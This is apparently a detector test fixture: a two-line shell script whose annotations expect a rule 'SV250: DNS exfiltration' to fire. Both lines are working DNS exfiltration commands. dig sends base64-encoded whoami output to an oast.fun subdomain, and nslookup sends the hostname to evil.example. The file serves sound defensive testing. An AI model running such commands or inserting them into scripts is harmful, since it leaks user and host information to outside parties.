#!/bin/sh
dig "$(whoami | base64).x.oast.fun" # want "SV250: DNS exfiltration"
nslookup `hostname`.evil.example # want "SV250: DNS exfiltration"
